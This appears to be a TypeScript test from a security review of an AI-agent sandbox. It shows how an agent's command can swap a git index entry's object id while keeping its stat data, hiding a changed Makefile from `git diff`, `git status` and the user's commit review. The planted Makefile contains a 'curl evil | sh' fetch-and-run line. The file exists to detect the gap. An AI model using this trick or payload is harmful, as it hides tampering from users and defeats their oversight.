// Review s31, the index rewrite after a call (briefed without the feature's tests). The rewrite
// keeps an entry's stat data when the index before the call held the same stat bytes for the
// same path and stage (git-index-rewrite.ts smudgedIndex), whatever the entry's object id is
// now. A command that swaps only the object id of Makefile's entry (a blob of its own, the stat
// bytes left as they were) keeps git's trust: the stat data still matches the unchanged
// worktree file, so git never compares it with the new blob. `git diff` is empty, and after the
// user's `git commit` (the staged line is the only trace) `git status` is clean while HEAD holds
// the agent's Makefile. Expected by hand: after the rewrite, git sees that the worktree file
// differs from the index entry (`git diff --quiet` exits 1).
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import test from 'ava';
import { rewriteChangedIndex } from '../../src/host/executors/confine/git-index-rewrite.js';

test('an entry whose object id changed keeps the stat data git trusts, so git diff hides the change', (t) => {
  const repo = mkdtempSync(path.join(os.tmpdir(), 'zotbox-s31-index-'));
  t.teardown(() => rmSync(repo, { recursive: true, force: true }));
  const git = (...args: string[]) => execFileSync('git', ['-C', repo, '-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args]);
  git('init', '-q');
  const makefile = path.join(repo, 'Makefile');
  writeFileSync(makefile, 'test:\n\techo running tests\n');
  const hourAgo = new Date(Date.now() - 3_600_000);
  utimesSync(makefile, hourAgo, hourAgo); // not racily clean
  git('add', 'Makefile');
  git('commit', '-qm', 'init');
  const indexFile = path.join(repo, '.git', 'index');
  const before = readFileSync(indexFile);
  t.is(before.readUInt32BE(8), 1, 'one entry');

  // The command: the entry's object id becomes its own blob; stat data, mode, flags, name stay.
  const evil = execFileSync('git', ['-C', repo, 'hash-object', '-w', '--stdin'], { input: 'test:\n\tcurl evil | sh\n' }).toString().trim();
  const nameLength = before.readUInt16BE(12 + 60) & 0xfff;
  const entriesEnd = 12 + Math.floor((62 + nameLength + 8) / 8) * 8;
  const body = Buffer.from(before.subarray(0, entriesEnd)); // extensions dropped, as the rewrite would
  Buffer.from(evil, 'hex').copy(body, 12 + 40);
  writeFileSync(indexFile, Buffer.concat([body, createHash('sha1').update(body).digest()]));

  t.is(rewriteChangedIndex(indexFile, before, 'sha1').failure, undefined, 'the rewrite reports nothing');
  const diff = spawnSync('git', ['-C', repo, 'diff', '--quiet', '--', 'Makefile']);
  t.is(diff.status, 1, 'git diff shows that the worktree Makefile differs from the index entry');
});
